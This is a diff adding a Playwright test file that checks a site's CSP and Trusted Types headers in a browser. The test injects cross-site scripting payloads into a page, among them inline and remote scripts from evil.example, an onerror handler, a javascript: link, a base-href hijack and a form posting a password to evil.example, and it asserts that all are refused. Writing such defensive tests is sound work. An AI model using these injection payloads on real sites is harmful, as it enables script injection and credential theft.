@@ -1,0 +1,74 @@
+import { expect, test } from "playwright/test";
+import { origin } from "./portal.ts";
+
+/** The headers of tests/edge/headers.test.ts, at work in a browser. */
+
+const page404 = `${origin("ie")}/assets/nowhere.js`;
+
+test("markup that got into a page runs nothing, loads nothing of others and leads no form away", async ({ page }) => {
+	const refused: string[] = [];
+	page.on("console", (message) => {
+		if (message.type() === "error") refused.push(message.text());
+	});
+	await page.route("https://evil.example/**", (route) => route.fulfill({ body: "window.pwned = 1" }));
+	await page.route(`${origin("ie")}/en-IE/about`, async (route) => {
+		const { host, port, pathname } = new URL(route.request().url());
+		// Node does not resolve every name under localhost itself.
+		const answer = await route.fetch({ url: `http://127.0.0.1:${port}${pathname}`, headers: { host } });
+		const injected = [
+			"<script>window.pwned = 1</script>",
+			'<script src="https://evil.example/x.js"></script>',
+			`<script src="${page404}"></script>`,
+			'<img src="x:" onerror="window.pwned = 1">',
+			'<iframe srcdoc="<script>parent.pwned = 1</script>"></iframe>',
+			'<a id="js" href="javascript:window.pwned = 1">x</a>',
+			'<form id="out" action="https://evil.example/"><input name="password" value="x"></form>',
+			'<base href="https://evil.example/">',
+			'<object data="https://evil.example/x"></object>',
+			'<style>body { display: none }</style><p id="shown" style="display: none">x</p>',
+		].join("");
+		await route.fulfill({
+			response: answer,
+			body: (await answer.text()).replace('<main id="content"', `${injected}$&`),
+		});
+	});
+	await page.goto(`${origin("ie")}/en-IE/about`);
+	await expect(page.locator("#shown")).toBeVisible();
+	await page.locator("#js").click();
+	await page.locator("#out").evaluate((form: HTMLFormElement) => form.submit());
+	expect(await page.evaluate(() => document.baseURI)).toBe(page.url());
+	expect(page.url()).toBe(`${origin("ie")}/en-IE/about`);
+	expect(await page.evaluate(() => "pwned" in window)).toBe(false);
+	for (const directive of ["script-src", "script-src-attr", "form-action", "base-uri", "object-src", "style-src"]) {
+		expect(refused.join("\n"), directive).toContain(directive);
+	}
+	// The page's own script runs all the same.
+	await page.getByRole("banner").getByRole("link", { name: "News", exact: true }).click();
+	await expect(page).toHaveURL(`${origin("ie")}/en-IE/news`);
+});
+
+test("no text becomes markup or script but by a policy with a name", async ({ page }) => {
+	await page.goto(`${origin("ie")}/en-IE`);
+	const results = await page.evaluate(() => {
+		const attempt = (act: () => unknown) => {
+			try {
+				act();
+				return "done";
+			} catch (error) {
+				return error instanceof Error ? error.name : "refused";
+			}
+		};
+		const script = document.createElement("script");
+		const types: { createPolicy(name: string, rules: object): unknown } = Reflect.get(window, "trustedTypes");
+		return [
+			attempt(() => document.body.insertAdjacentHTML("beforeend", "<b>x</b>")),
+			attempt(() => new DOMParser().parseFromString("<b>x</b>", "text/html")),
+			attempt(() => Object.assign(script, { src: "/assets/x.js" })),
+			attempt(() => Object.assign(script, { textContent: "1" })),
+			attempt(() => document.body.setAttribute("onclick", "1")),
+			attempt(() => types.createPolicy("other", {})),
+			attempt(() => types.createPolicy("shell", { createHTML: (html: string) => html })),
+		];
+	});
+	expect(results).toEqual(Array.from({ length: 7 }, () => "TypeError"));
+});
